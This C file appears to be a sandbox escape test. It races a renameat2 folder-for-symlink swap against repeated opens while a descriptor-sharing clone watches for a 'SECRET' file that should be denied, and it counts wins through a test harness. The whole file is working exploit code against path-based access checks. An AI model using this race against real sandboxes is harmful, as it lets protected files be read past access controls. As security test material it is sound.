// SPDX-License-Identifier: Apache-2.0
// A task with a filter of its own opens below a folder that is swapped for a link; a process that
// shares its descriptors reads whatever appears there.
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>

// filtered gives the task a harmless filter of its own, as many programs have.
static void filtered(void)
{
	struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog program = {1, code};
	must(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), "no new privs");
	must(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program), "seccomp");
}

static void *swapper(void *arg)
{
	for (;;)
		renameat2(AT_FDCWD, "at", AT_FDCWD, "lnk", RENAME_EXCHANGE);
	return arg;
}

static char stack[1 << 16] __attribute__((aligned(16)));
static volatile int done;
static int reader(void *arg)
{
	char text[6];
	for (;;)
		for (int fd = 3; fd < 10; fd++)
			if (pread(fd, text, 6, 0) == 6 && !memcmp(text, "SECRET", 6)) {
				__atomic_add_fetch((volatile int *)arg, 1, __ATOMIC_SEQ_CST);
				while (!done && pread(fd, text, 6, 0) == 6)
					;
			}
	return 0;
}

int main(void)
{
	volatile int *wins = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	must(mkdir("at", 0755), "mkdir");
	must(symlink("denied", "lnk"), "symlink");
	int fd = open("at/file", O_WRONLY | O_CREAT, 0600);
	must(write(fd, "ALLOWED", 7), "write");
	close(fd);
	filtered();
	while (race_more()) {
		int before = *wins;
		pid_t pid = fork();
		if (!pid) {
			close(7), close(8);
			pid_t r = clone(reader, stack + sizeof stack, CLONE_VM | CLONE_FILES | SIGCHLD, (void *)wins);
			(void)r;
			start(swapper, NULL);
			for (int j = 0; j < 200; j++)
				close(open("at/file", O_RDONLY));
			kill(r, SIGKILL);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		race_won(*wins != before);
		race_tries += 199;
	}
	// What a killed opener left behind.
	signal(SIGTERM, SIG_IGN);
	kill(0, SIGTERM);
	race_end();
}
